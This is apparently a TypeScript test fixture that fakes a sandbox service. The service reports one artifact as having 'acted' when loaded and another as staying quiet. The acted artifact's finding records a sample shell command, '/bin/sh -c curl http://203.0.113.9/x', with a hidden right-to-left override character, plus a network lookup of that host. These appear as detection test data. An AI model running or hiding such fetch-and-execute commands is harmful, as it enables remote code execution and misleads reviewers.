import type { Digest } from '#artifact/digest.ts';
import type { SandboxDesk, SandboxView } from '#app/routes/sandbox.ts';
import { Fault } from '#lib/fault.ts';

const none: SandboxView = { state: 'none', fault: null, finding: null };
const run = { exercisedAt: '2026-11-21T09:12:44Z', logIndex: 5 };

/** One artifact that acted when it was loaded, one that was not loaded yet and stays quiet when it is, and one that may not be. */
export function fixtureSandbox(acted: Digest, quiet: Digest): SandboxDesk {
  let asked = 0;
  let ordered = false;
  const show: SandboxDesk['show'] = async (_caller, artifact) => {
    if (artifact === acted) {
      const acts = [
        'it started `/bin/sh -c \u202ecurl http://203.0.113.9/x`',
        'it asked for the address of `203.0.113.9:80`',
      ];
      const finding = { ...run, outcome: 'acted' as const, acts, reasons: [], evidence: acted, logIndex: 6 };
      return { ...none, state: 'done', finding };
    }
    if (!ordered) return none;
    asked += 1;
    if (asked < 3) return { ...none, state: asked === 1 ? 'waiting' : 'running' };
    const finding = { ...run, outcome: 'quiet' as const, acts: [], reasons: [], evidence: quiet };
    return { ...none, state: 'done', finding };
  };
  return {
    show,
    order: async (caller, artifact) => {
      if (artifact === acted)
        throw new Fault('sandbox.unavailable', 'the sandbox is switched off here', {
          hint: 'set `sandbox: on-request`',
        });
      ordered = true;
      return show(caller, artifact);
    },
  };
}
